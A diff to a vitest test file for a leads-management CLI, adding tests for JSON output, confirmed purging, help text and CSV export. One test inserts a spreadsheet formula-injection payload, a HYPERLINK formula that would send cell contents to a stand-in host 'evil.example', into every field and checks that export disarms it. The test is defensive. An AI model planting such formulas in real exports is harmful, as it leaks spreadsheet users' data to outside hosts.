@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { expect, it } from 'vitest';
 import { csvLine } from '../../src/cli/csv.ts';
 import { run } from '../../src/cli/run.ts';
@@ -37,11 +38,17 @@ describeStores('the operator’s tool', (makeStore) => {
   });
 
   it('shows one lead with its message', async () => {
-    const { store, leadsTool } = await start();
+    const { store, desk, leadsTool } = await start();
     const accepted = await store.accept(newLead());
     const shown = await leadsTool('show', 'id' in accepted ? accepted.id : '');
     expect(shown).toContain(leadRequest.message);
     expect(shown).toMatch(/email +hanako@acme\.example/u);
+    const [{ id } = { id: '' }] = await desk.list({}, { limit: 1 });
+    expect(JSON.parse(await leadsTool('show', id, '--json'))).toMatchObject({
+      id,
+      state: 'waiting',
+      request: leadRequest,
+    });
   });
 
   it('releases and retries, and says when a lead is in another state', async () => {
@@ -82,6 +89,40 @@ describeStores('the operator’s tool', (makeStore) => {
     expect(await refused.desk.counts()).toMatchObject({ waiting: 0 });
   });
 
+  it('erases what was confirmed, and nothing beside it', async () => {
+    const { store, desk, leadsTool, questions } = await start(true);
+    const [first] = await Promise.all([store.accept(newLead()), store.accept(newLead())]);
+    const id = 'id' in first ? first.id : '';
+    expect(await leadsTool('purge', id, '--before', '2100-01-01')).toBe('1 lead was erased.');
+    expect(questions).toEqual([`Erase leads ${id} received before 2100-01-01 for good?`]);
+    const left = await desk.list({}, { limit: 10 });
+    expect(left.map((lead) => lead.id)).not.toContain(id);
+    expect(left).toHaveLength(1);
+  });
+
+  it('exports no cell that a spreadsheet would run, whatever was typed', async () => {
+    const { store, leadsTool } = await start();
+    const formula = `=HYPERLINK("https://evil.example?"&A1,"x")\n+1`;
+    const typed = [
+      'firstName',
+      'lastName',
+      'email',
+      'phone',
+      'company',
+      'country',
+      'message',
+      'page',
+    ];
+    const request = {
+      ...leadRequest,
+      ...Object.fromEntries(typed.map((field) => [field, formula])),
+    };
+    await store.accept(newLead({ request }));
+    const csv = await leadsTool('export');
+    const disarmed = `,"'${formula.replaceAll('"', '""')}"`;
+    expect(csv.split(disarmed)).toHaveLength(typed.length + 1);
+  });
+
   it.each([
     [['frobnicate'], 'no command'],
     [['constructor'], 'no command'],
@@ -102,13 +143,41 @@ describeStores('the operator’s tool', (makeStore) => {
     });
   });
 
-  it('explains itself', async () => {
+  it.each([
+    ['list', ['--state', '--limit', '--json']],
+    ['show', ['<id>', '--json']],
+    ['retry', ['<id>', '--all']],
+    ['release', ['<id>', '--all']],
+    ['export', ['--state', '--json']],
+    ['purge', ['<id>', '--state', '--before', '--yes']],
+  ])('explains %s and its options', async (name, options) => {
     const { leadsTool } = await start();
-    for (const name of ['list', 'show', 'retry', 'release', 'export', 'purge']) {
-      expect(await leadsTool()).toContain(`  ${name} `);
-      expect(await leadsTool(name, '--help')).toContain(`npm run leads -- ${name}`);
+    const explained = await leadsTool(name, '--help');
+    expect(explained).toContain(`npm run leads -- ${name}`);
+    for (const option of options) expect(explained).toContain(option);
+    const [, usage = ''] = explained.split(`npm run leads -- `);
+    for (const help of [await leadsTool(), await leadsTool('help'), await leadsTool('--help')]) {
+      expect(help).toContain(`  ${usage}`);
     }
   });
+});
+
+it('disarms and quotes any cell so that it reads back as it was', () => {
+  const cell = fc.oneof(
+    fc.string({ unit: 'binary' }),
+    fc.stringMatching(/^[=+\-@\t\r"',\n＝]{1,6}$/u),
+  );
+  fc.assert(
+    fc.property(fc.array(cell, { minLength: 1 }), (cells) => {
+      const read = [...`,${csvLine(cells)}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/gu)].map(
+        ([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain,
+      );
+      expect(read.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
+      expect(read.map((text, i) => (text === cells[i] ? text : text.replace(/^'/u, '')))).toEqual(
+        cells,
+      );
+    }),
+  );
 });
 
 it.each(['=1+1', '+49', '-1', '@SUM(A1)', '\t=1', '＝1'])('disarms the cell %s', (text) => {
